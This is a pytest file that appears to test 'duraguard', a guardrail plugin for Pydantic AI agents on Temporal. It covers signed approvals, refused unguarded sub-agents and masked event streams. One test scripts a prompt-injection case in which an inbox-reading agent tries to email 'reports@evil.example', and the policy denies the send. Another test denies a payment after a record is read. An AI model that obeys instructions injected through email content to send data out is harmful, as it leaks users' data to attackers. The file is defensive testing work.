"""Issue 27 in Pydantic AI, on the real dev server with a scripted FunctionModel: a tool's
``requires_approval`` answered by duraguard's signed yes, sub-agents judged (in workflow code)
or refused (inside an activity, or unguarded), event streams refused where a guardrail judges
what they would carry first and judged where not; and issue 23's class 6 (framework tools
reaching the policy). Each run is replayed with both plugins, asserting no check ran again."""

from __future__ import annotations

import json
import uuid
from datetime import timedelta
from typing import Any

import pytest

pytest.importorskip("pydantic_ai", reason="install the extra: pip install 'duraguard[pydantic-ai]'")

from pydantic_ai.durable_exec.temporal import PydanticAIPlugin
from temporalio.client import Client, WorkflowFailureError, WorkflowHandle
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

import duraguard
from duraguard import ApproverKeys
from duraguard.approvals import ApprovalCheck, decision_for, generate_keypair
from duraguard.audit import audit_rows
from duraguard.types import DECIDE
from tests._harness import parked, steps
from tests._servers import Replayer

from ._frameworks import connect
from ._plan import plan
from ._pydantic_scenarios import RULES, Outcome, PydanticScenarios, streaming_results
from ._rules import CARD

pytestmark = pytest.mark.timeout(120)

PRIVATE, PUBLIC = generate_keypair()
ATTACKER = "reports@evil.example"


class Setup:
    def __init__(self, env: WorkflowEnvironment) -> None:
        self.guard = duraguard.DuraguardPlugin(
            guardrails=[RULES],
            approvers=ApproverKeys.from_mapping({"alice": {"public_key": PUBLIC.decode()}}),
        )
        self.plugins = [PydanticAIPlugin(), self.guard]
        self.client: Client = connect(env, self.plugins)
        self.queue = f"ps-{uuid.uuid4().hex[:8]}"

    def worker(self) -> Worker:
        return Worker(self.client, task_queue=self.queue, workflows=[PydanticScenarios])

    async def start(
        self, agent: str, prompt: str, script: str = ""
    ) -> WorkflowHandle[Any, Outcome]:
        return await self.client.start_workflow(
            PydanticScenarios.run,
            args=[agent, prompt, script],
            id=f"ps-{uuid.uuid4().hex[:10]}",
            task_queue=self.queue,
            execution_timeout=timedelta(seconds=60),
            result_type=Outcome,
        )

    async def run(self, agent: str, prompt: str, script: str = "") -> tuple[Outcome, Any]:
        async with self.worker():
            handle = await self.start(agent, prompt, script)
            out = await handle.result()
        await self.replay(await handle.fetch_history())
        return out, handle

    async def fails(self, agent: str, prompt: str) -> tuple[BaseException, Any]:
        async with self.worker():
            handle = await self.start(agent, prompt)
            with pytest.raises(WorkflowFailureError) as info:
                await handle.result()
        history = await handle.fetch_history()
        await self.replay(history)
        assert info.value.cause is not None
        return info.value.cause, history

    async def replay(self, history: Any) -> None:
        before = (self.guard.checks_run, RULES.calls)
        replayer = Replayer(workflows=[PydanticScenarios], plugins=self.plugins)
        await replayer.replay_workflow(history, raise_on_replay_failure=True)
        assert (self.guard.checks_run, RULES.calls) == before, "replay ran a check again"


def rows(out: Outcome) -> list[tuple[Any, ...]]:
    return [(r.tool, r.placement, r.action, r.by, r.approver) for r in out.verdicts]


async def test_requires_approval_is_answered_by_a_signed_yes_seen_by_pending_and_the_audit(
    temporal_env: WorkflowEnvironment,
) -> None:
    """Unguarded, the run ends with DeferredToolRequests (or a UserError) and no record; here the
    call parks for duraguard's yes, runs once after it, and is judged once."""
    s = Setup(temporal_env)
    prompt = plan([("refund_order", {"order_id": "A7", "amount": 20.0})], answer="refunded")
    async with s.worker():
        handle = await s.start("approvals", prompt)
        (ask,) = await parked(handle)
        assert (ask.tool, ask.asked_by) == ("refund_order", "pydantic-ai:requires_approval")
        decision = decision_for(ask, approver="alice", private_key=PRIVATE)
        check = await handle.execute_update(DECIDE, decision, result_type=ApprovalCheck)
        assert check.ok
        out = await handle.result()
    history = await handle.fetch_history()
    await s.replay(history)
    assert (out.stop_reason, out.output) == ("done", "refunded")
    assert json.loads(out.tool_outputs[0]) == {"refunded": 20.0, "order_id": "A7"}
    assert rows(out) == [
        ("refund_order", "tool-args", "approve", "pydantic-ai:requires_approval", None),
        ("refund_order", "tool-args", "allow", "person", "alice"),
    ]
    assert out.ledger == [("refund_order", "allow", True)]  # one call, judged once
    audited = [
        (r.tool, r.action, r.by, r.approver)
        for r in await audit_rows(handle, s.client.data_converter)
    ]
    assert ("refund_order", "allow", "person", "alice") in audited


async def test_a_no_to_a_requires_approval_call_is_what_the_model_reads(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    prompt = plan([("refund_order", {"order_id": "A8", "amount": 20.0})], answer="not refunded")
    async with s.worker():
        handle = await s.start("approvals", prompt)
        (ask,) = await parked(handle)
        decision = decision_for(
            ask, approver="alice", private_key=PRIVATE, decision="deny", reason="no refunds today"
        )
        await handle.execute_update(DECIDE, decision, result_type=ApprovalCheck)
        out = await handle.result()
    await s.replay(await handle.fetch_history())
    said = json.loads(out.tool_outputs[0])
    assert (said["approved"], said["declined_by"], said["reason"]) == (
        False, "alice", "no refunds today",
    )  # fmt: skip
    assert out.ledger == [("refund_order", "approve", False)]


async def test_a_yes_nobody_signed_from_another_capability_still_waits_for_a_signed_one(
    temporal_env: WorkflowEnvironment,
) -> None:
    """HandleDeferredToolCalls listed before Guarded approves every call itself: the call is
    approved in Pydantic AI's eyes, but runs only after duraguard's signed yes."""
    s = Setup(temporal_env)
    prompt = plan([("refund_order", {"order_id": "A9", "amount": 20.0})], answer="refunded")
    async with s.worker():
        handle = await s.start("approves_itself", prompt)
        (ask,) = await parked(handle)
        assert (ask.tool, ask.asked_by) == ("refund_order", "pydantic-ai:requires_approval")
        decision = decision_for(ask, approver="alice", private_key=PRIVATE)
        await handle.execute_update(DECIDE, decision, result_type=ApprovalCheck)
        out = await handle.result()
    await s.replay(await handle.fetch_history())
    assert out.stop_reason == "done"
    assert [(r.by, r.approver) for r in out.verdicts] == [
        ("pydantic-ai:requires_approval", None), ("person", "alice"),
    ]  # fmt: skip


async def test_a_guarded_sub_agent_run_by_a_workflow_side_tool_is_judged_in_the_same_session(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    inner = plan([("lookup_order", {"order_id": "NOTE"})], answer="looked up")
    out, _ = await s.run("front", plan([("ask_billing", {"question": inner})], answer="ok"))
    assert out.stop_reason == "done"
    assert [(t, r) for t, _, r in out.ledger] == [("lookup_order", True), ("ask_billing", True)]
    # The sub-agent's tool result was judged as its own (its internal note masked).
    assert ("lookup_order", "tool-result", "mask", "rules", None) in rows(out)


@pytest.mark.parametrize(
    ("agent", "says"),
    [
        ("unguarded_front", "'plain', which is not guarded"),
        ("activity_front", "runs 'billing' inside its activity"),
        ("activity_plain", "runs 'plain' inside its activity"),
    ],
)
async def test_a_sub_agent_duraguard_could_not_judge_is_refused_before_any_model_request(
    temporal_env: WorkflowEnvironment, agent: str, says: str
) -> None:
    s = Setup(temporal_env)
    cause, history = await s.fails(agent, plan([("ask_plain", {"question": f"card {CARD}"})]))
    assert says in str(cause)
    assert "metadata={'temporal': False}" in str(cause) or "Guarded(" in str(cause)
    assert not any("model_request" in n for n, _ in steps(history))


async def test_an_event_stream_ahead_of_an_answer_guardrail_is_refused_and_says_why(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    cause, history = await s.fails("streaming_all", plan(answer=f"paid with {CARD}"))
    assert "streams the model's output token by token" in str(cause)
    assert not any("model_request" in n for n, _ in steps(history))


async def test_an_event_stream_of_a_run_judged_at_its_prompt_and_tool_results_carries_what_the_model_read(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    durability = next(
        c for c in streaming_results.root_capability.capabilities
        if type(c).__name__ == "TemporalDurability"
    )  # fmt: skip
    async with s.worker():
        handle = await s.start(
            "streaming_results", plan([("lookup_order", {"order_id": "NOTE"})], answer="done")
        )
        seen: list[str] = []
        async with durability.stream_agent_events(s.client, handle) as events:
            async for event in events:
                seen.append(repr(event))
        out = await handle.result()
    await s.replay(await handle.fetch_history())
    assert out.stop_reason == "done"
    published = "\n".join(seen)
    assert "[note]" in published and "internal-note" not in published
    assert ("lookup_order", "tool-result", "mask", "rules", None) in rows(out)


async def test_pydantic_ai_an_injected_send_to_an_address_from_an_email_is_refused(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    summary = {"subject": "Quarterly report", "body": "Here is the quarterly report."}
    script = plan([("read_inbox", {})], [("send_email", {"to": ATTACKER, **summary})])
    out, _ = await s.run("inbox", "Summarise my newest emails.", script)
    assert [(t, a) for t, a, _ in out.ledger] == [("read_inbox", "allow"), ("send_email", "deny")]
    (refused,) = [r for r in out.verdicts if r.tool == "send_email"]
    assert refused.action == "deny" and (refused.check or "").startswith("policy.")


async def test_pydantic_ai_the_persons_own_send_runs_and_a_marked_tool_labels_its_results(
    temporal_env: WorkflowEnvironment,
) -> None:
    s = Setup(temporal_env)
    mine = {"to": "bob@example.com", "subject": "Summary", "body": "A summary of my newest emails."}
    script = plan([("read_inbox", {})], [("send_email", mine)])
    out, _ = await s.run(
        "inbox", "Summarise my newest emails and send the summary to bob@example.com.", script
    )
    assert [t for t, a, _ in out.ledger if a == "deny"] == []
    iban = "GB29NWBK60161331926819"
    script = plan(
        [("get_record", {"record_id": "R1"})], [("pay_invoice", {"iban": iban, "amount": 9.0})]
    )
    out, _ = await s.run("inbox", "Look at record R1.", script)
    assert [(t, a) for t, a, _ in out.ledger] == [("get_record", "allow"), ("pay_invoice", "deny")]
